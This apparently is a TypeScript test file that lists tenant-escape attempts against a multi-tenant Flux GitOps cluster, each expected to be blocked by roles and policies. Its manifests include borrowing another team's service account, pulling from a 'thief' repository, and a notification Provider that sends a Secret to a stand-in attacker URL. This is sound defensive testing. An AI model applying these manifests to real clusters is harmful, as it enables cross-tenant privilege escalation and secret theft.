import { stoppedBy } from '../attack';
import { commits } from '../commit';
import { manifest } from '../manifest';
import { rolesAndPolicies } from '../layered';
import { sends } from '../request';

const SOURCE = { kind: 'GitRepository', name: 'shop' };
const applies = (spec: object): object => ({
  spec: { interval: '1m', prune: true, path: './', sourceRef: SOURCE, ...spec },
});
const kustomization = (spec: object, name = 'thief') =>
  manifest('kustomize.toolkit.fluxcd.io/v1 Kustomization', `shop/${name}`, name === 'thief' ? applies(spec) : { spec });

/** Objects of Flux, in the team's own namespace. */
export const fluxObjectAttacks = stoppedBy(rolesAndPolicies, [
  commits("a Kustomization with another team's account", kustomization({ serviceAccountName: 'media-deploy' })),
  commits('a Kustomization without an account', kustomization({})),
  commits('a Kustomization for another cluster', kustomization({ kubeConfig: { secretRef: { name: 'credentials' } } })),
  commits(
    "a Kustomization of another team's source",
    kustomization({ sourceRef: { ...SOURCE, name: 'media', namespace: 'media' } }),
  ),
  commits('a Kustomization into another namespace', kustomization({ targetNamespace: 'media' })),
  commits("another team's folder in its own Kustomization", kustomization({ path: './dist/apps/dev/media' }, 'shop')),
  commits('another account in its own Kustomization', kustomization({ serviceAccountName: 'default' }, 'shop')),
  commits(
    'another repository in its own source',
    manifest('source.toolkit.fluxcd.io/v1 GitRepository', 'shop/shop', { spec: { url: 'https://example.com/thief' } }),
  ),
  commits(
    'more of the repository in its own source',
    manifest('source.toolkit.fluxcd.io/v1 GitRepository', 'shop/shop', { spec: { sparseCheckout: ['dist'] } }),
  ),
  commits(
    "a HelmRelease with another team's account",
    manifest('helm.toolkit.fluxcd.io/v2 HelmRelease', 'shop/thief', {
      spec: {
        interval: '1m',
        serviceAccountName: 'media-deploy',
        chart: { spec: { chart: './chart', sourceRef: SOURCE } },
      },
    }),
  ),
  commits(
    'a HelmRepository',
    manifest('source.toolkit.fluxcd.io/v1 HelmRepository', 'shop/thief', {
      spec: { interval: '1m', url: 'https://example.com/charts' },
    }),
  ),
  commits(
    'an OCIRepository',
    manifest('source.toolkit.fluxcd.io/v1 OCIRepository', 'shop/thief', {
      spec: { interval: '1m', url: 'oci://example.com/thief' },
    }),
  ),
  commits(
    'a Bucket',
    manifest('source.toolkit.fluxcd.io/v1 Bucket', 'shop/thief', {
      spec: { interval: '1m', bucketName: 'thief', endpoint: 'example.com' },
    }),
  ),
  commits(
    'a Receiver that lets others trigger Flux',
    manifest('notification.toolkit.fluxcd.io/v1 Receiver', 'shop/thief', {
      spec: { type: 'generic', secretRef: { name: 'credentials' }, resources: [SOURCE] },
    }),
  ),
  commits(
    "an Alert on another team's events",
    manifest('notification.toolkit.fluxcd.io/v1beta3 Alert', 'shop/thief', {
      spec: {
        providerRef: { name: 'thief' },
        eventSources: [{ kind: 'Kustomization', name: '*', namespace: 'media' }],
      },
    }),
  ),
  commits(
    'a Provider that sends a Secret elsewhere',
    manifest('notification.toolkit.fluxcd.io/v1beta3 Provider', 'shop/thief', {
      spec: { type: 'generic', address: 'https://example.com/thief', secretRef: { name: 'credentials' } },
    }),
  ),
  commits(
    'another address in its own Provider',
    manifest('notification.toolkit.fluxcd.io/v1beta3 Provider', 'shop/notifications', {
      spec: { type: 'generic', address: 'https://example.com/thief' },
    }),
  ),
  commits(
    'other resources in its own Receiver',
    manifest('notification.toolkit.fluxcd.io/v1 Receiver', 'shop/push', {
      spec: { resources: [{ ...SOURCE, name: 'media', namespace: 'media' }] },
    }),
  ),
  commits(
    'a FluxInstance of its own',
    manifest('fluxcd.controlplane.io/v1 FluxInstance', 'shop/flux', {
      spec: { distribution: { registry: 'example.com/thief', version: '2.x' } },
    }),
  ),
  sends('lead', 'stops being followed', {
    to: 'PATCH /apis/kustomize.toolkit.fluxcd.io/v1/namespaces/shop/kustomizations/shop',
    contentType: 'application/merge-patch+json',
    body: { spec: { suspend: true } },
  }),
]);
